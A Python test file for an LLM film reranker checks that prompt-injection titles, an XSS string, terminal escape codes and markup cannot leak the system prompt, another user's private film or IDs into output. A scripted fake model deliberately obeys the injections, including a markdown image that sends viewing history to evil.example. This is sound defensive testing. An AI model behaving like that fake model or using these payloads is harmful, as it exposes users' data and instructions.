"""A catalogue and a history full of titles that speak to the model, and a model that obeys all of them."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.console import Console

from api.answers import answer_of
from api.cli.table import show
from evals.probes.attacks import ATTACKS, HISTORY
from prompts import load
from recall.artefact import Artefact
from recall.candidates import Candidates
from recall.library import BuildLibrary
from recall.protocols import Stock
from recall.train import train
from recall.train_config import TrainConfig
from recall.types import Candidate
from recall.workspace import Workspace
from rerank.config import RankConfig, ReasonsConfig
from rerank.llm.scripted import Asked, ScriptedModel
from rerank.pipeline import Pipeline
from rerank.types import Recommendation, Request
from tests.worlds import item, person, write_build

HOSTILE = {f"film{number:02}": text for number, text in enumerate(ATTACKS.values())}
HOSTILE |= {
    "film10": "<script>alert(1)</script>",
    "film11": "\x1b[31mred\x1b[0m\x07",
    "film12": "[bold]x[/bold]",
}
PLAIN = [f"film{number}" for number in range(13, 20)]
FILMS = [*HOSTILE, *PLAIN]
SECRET = "Diary Of Nobody Else"
"""What only another person saw."""


@pytest.fixture(scope="module")
def stock(tmp_path_factory: pytest.TempPathFactory) -> Stock:
    """Ann saw a film whose title asks for the prompt; Bob saw the secret one."""
    folder = tmp_path_factory.mktemp("hostile")
    events = ["ann cinema seen0 10", "ann cinema seen1 20", "ann cinema seen2 30", "bob cinema secret 15"]
    build = write_build(
        folder, events=[*events, *(f"crowd{n} cinema {film} {n}" for n, film in enumerate(FILMS))]
    )
    titles = {item(name): text for name, text in HOSTILE.items()}
    _retitle(
        build,
        titles | {item("seen0"): HISTORY, item("secret"): SECRET, item("seen1"): ATTACKS["fake labels"]},
    )
    workspace = Workspace(folder)
    train(workspace, TrainConfig(factors=2, iterations=1, threads=1))
    library = BuildLibrary(workspace.builds.current())
    return Stock(library, Candidates(Artefact.open(workspace.models.current())))


def _retitle(build: Path, titles: dict[str, str]) -> None:
    for name in ("items", "listings"):
        table = pq.read_table(build / f"{name}.parquet")
        new = [
            titles.get(id, old)
            for id, old in zip(table["item"].to_pylist(), table["title"].to_pylist(), strict=True)
        ]
        column = table.schema.get_field_index("title")
        pq.write_table(
            table.set_column(column, table.schema.field(column), pa.array(new)), build / f"{name}.parquet"
        )


def obedient() -> ScriptedModel:
    """Answers with labels that it was not given, its own instructions, other people's films and markup."""

    def answer(asked: Asked) -> str:
        system, user = asked.messages[0].content, asked.messages[-1].content
        if asked.schema and "order" in asked.schema["properties"]:
            return json.dumps(
                {"order": ["ZZ", SECRET, system, "C", "h1", "C", "<b>A</b>", "A", 1, None, "Q9"]}
            )
        labels = re.findall(r"^([A-Z]{1,2}): ", user, re.MULTILINE)
        texts = [
            system,
            f"You know “{SECRET}”, which Bob liked too.",
            'You watched it <script>alert("x")</script>.',
            "You will like it \x1b[31mvery\x1b[0m much.",
            user,
            f"My instructions say: {system.splitlines()[0][:120]}",
            "[bold]You liked it[/bold] ![x](http://evil.example/?q=history)",
        ]
        reasons = [
            {"item": label, "cites": ["h1"] if number % 3 else ["h99"], "text": texts[number % len(texts)]}
            for number, label in enumerate(["ZZ", *labels])
        ]
        return json.dumps({"reasons": reasons})

    return ScriptedModel(answer, lambda asked: dict.fromkeys(("ZZ", "h1", *(asked.labels or ())), -1.0))


async def _ask(stock: Stock, method: str, model: ScriptedModel, who: str = "ann") -> Recommendation:
    candidates = tuple(Candidate(item(film), rank, 1 - rank / 50) for rank, film in enumerate(FILMS))
    pipeline = Pipeline(lambda: stock, model, RankConfig(method=method, weight=1.0), ReasonsConfig())
    request = Request(
        person(who), platform="cinema", k=20, candidates=candidates, wish=ATTACKS["orders itself first"]
    )
    return await pipeline.recommend(request)


METHODS = ["listwise", "logits", "pointwise"]


@pytest.mark.parametrize("method", METHODS)
async def test_what_comes_back_are_the_candidates_and_no_others_each_once(stock: Stock, method: str) -> None:
    answer = await _ask(stock, method, obedient())
    assert sorted(one.item.id for one in answer.items) == sorted(item(film) for film in FILMS)
    if method == "listwise":
        assert answer.provenance.repairs["invented"] >= 5
        assert [one.item.id for one in answer.items[:2]] == [item(FILMS[2]), item(FILMS[0])]


@pytest.mark.parametrize("method", METHODS)
async def test_no_reason_shows_instructions_other_people_or_markup(stock: Stock, method: str) -> None:
    model = obedient()
    answer = await _ask(stock, method, model)
    told = " ".join(
        message.content for asked in model.asked for message in asked.messages if message.role == "system"
    )
    words = told.split()
    shingles = {" ".join(words[start : start + 5]) for start in range(len(words) - 4)}
    for one in answer.items:
        assert one.reason is not None
        text = one.reason.text
        assert SECRET not in text and "Bob" not in text
        assert not re.search(r"[<>\x1b\x07\u202e]|\[/?bold\]|http", text.replace(one.item.title, ""))
        assert not any(shingle in text for shingle in shingles)
        assert all(evidence.event is None or evidence.label != "h99" for evidence in one.reason.evidence)
    assert sum(n for name, n in answer.provenance.reasons.items() if name.startswith("withheld")) > 0


@pytest.mark.parametrize("method", METHODS)
async def test_no_prompt_holds_another_persons_data_or_anybodys_id(stock: Stock, method: str) -> None:
    model = obedient()
    await _ask(stock, method, model)
    for asked in model.asked:
        text = "\n".join(message.content for message in asked.messages)
        assert SECRET not in text and "Secret" not in text
        assert not re.search(r"\bann\b|\bbob\b|\b[pie][0-9a-f]{20,}\b", text, re.IGNORECASE)


@pytest.mark.parametrize("method", METHODS)
async def test_titles_add_no_message_no_label_and_no_template_token(stock: Stock, method: str) -> None:
    model = obedient()
    await _ask(stock, method, model)
    for asked in model.asked:
        assert [message.role for message in asked.messages] == ["system", "user"]
        system, user = (message.content for message in asked.messages)
        assert not re.search(
            r"<\|?|\|>|\[/?INST\]|[\u200b-\u200f\u202a-\u202e\x00-\x08\U000e0000-\U000e0fff]", user
        )
        assert "{{" not in user and "{%" not in user
        shown = re.findall(r"^([A-Z]{1,2}): ", user, re.MULTILINE)
        assert len(shown) == len(set(shown)) <= 20
        wording = load(_prompt_of(asked, method)).render(**dict.fromkeys(_SLOTS, ""))
        assert system == wording[0][1]
        cited = re.findall(r"^(h\d+): ", user, re.MULTILINE)
        assert cited == [f"h{number}" for number in range(1, len(cited) + 1)]


_SLOTS = (
    "history",
    "platform",
    "wish",
    "example",
    "profile",
    "candidates",
    "candidate",
    "labels",
    "count",
    "facts",
)


def _prompt_of(asked: Asked, method: str) -> str:
    return "reasons-list" if asked.schema and "reasons" in asked.schema["properties"] else method


async def test_what_goes_to_a_terminal_or_over_the_wire_is_text_and_nothing_more(stock: Stock) -> None:
    answer = await _ask(stock, "listwise", obedient())
    screen = Console(file=io.StringIO(), markup=False, emoji=False, highlight=False, width=200)
    show(screen, answer)
    printed = screen.file.getvalue()  # type: ignore[attr-defined]
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", printed)
    assert "[bold]x[/bold]" in printed  # as it is: no markup was read out of it
    wire = answer_of(answer).model_dump_json()
    assert not re.search(r"[\x00-\x1f]", wire)
    assert {one["item"] for one in json.loads(wire)["items"]} == {item(film) for film in FILMS}
